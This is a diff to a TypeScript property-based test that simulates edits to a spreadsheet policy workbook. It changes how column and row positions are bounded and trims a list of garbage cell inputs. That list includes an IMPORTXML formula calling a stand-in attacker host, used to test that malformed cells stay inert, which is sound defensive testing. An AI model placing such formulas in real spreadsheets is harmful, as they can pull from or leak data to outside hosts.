@@ -20,17 +20,22 @@ const RENAMED = ['Overview', 'Policy', 'Settings', 'Mail', 'State'];
 
 type Act = (world: World, workbook: string, tab: string, place: number) => void;
 
+const columnsOf = (world: World, workbook: string, tab: string): number =>
+  world.spreadsheets.get(workbook)?.sheets.find(({ properties }) => properties.title === tab)?.properties.gridProperties
+    .columnCount ?? 0;
+
 const ACTS: Record<string, Act> = {
   deletes: deleteTab,
   clears: clearTab,
+  // Google lets nobody delete the last column.
   'deletes a column of'(world, workbook, tab, place) {
-    // Google lets nobody delete the last one.
-    const sheet = world.spreadsheets.get(workbook)?.sheets.find(({ properties }) => properties.title === tab);
-    if ((sheet?.properties.gridProperties.columnCount ?? 0) > 1) deleteColumn(world, workbook, tab, place % 4);
+    const columns = columnsOf(world, workbook, tab);
+    if (columns > 1) deleteColumn(world, workbook, tab, Math.min(place, columns - 1));
   },
-  'inserts a column into': (world, workbook, tab, place) => insertColumn(world, workbook, tab, place % 4),
-  'inserts a row into': (world, workbook, tab, place) => insertRow(world, workbook, tab, place % 4),
-  sorts: (world, workbook, tab, place) => sortTab(world, workbook, tab, place % 4),
+  'inserts a column into': (world, workbook, tab, place) =>
+    insertColumn(world, workbook, tab, Math.min(place, columnsOf(world, workbook, tab))),
+  'inserts a row into': (world, workbook, tab, place) => insertRow(world, workbook, tab, place),
+  sorts: (world, workbook, tab, place) => sortTab(world, workbook, tab, place),
 };
 
 const isThere = ({ here: { world, workbook } }: Stage, tab: string): boolean =>
@@ -55,9 +60,9 @@ const renamed = constantFrom(...RENAMED).map(tab =>
   deed(`somebody renames the tab ${tab}`, tab, (world, workbook) => renameTab(world, workbook, tab, `My ${tab}`), 0),
 );
 
-const GARBAGE = ['=1+1', '=IMPORTXML("http://evil.example","//a")', 'TRUE', '12345', 'gibberish', '1e999', '-', ' '];
+const GARBAGE = ['=1+1', '=IMPORTXML("http://evil.example","//a")', 'TRUE', '12345', 'gibberish', '1e999', '-'];
 
-/** What people type into rows of the policy that were well: such a row never acts, and what stood there holds on. */
+/** What people type into cells that were well: such a row never acts, and what stood there holds on. An emptied setting is none of it: it means the default. */
 const garbled = record({
   tab: constantFrom('Policy', 'Settings', 'Groups', 'Findings', 'Runs', 'State'),
   row: integer({ min: 1, max: 5 }),
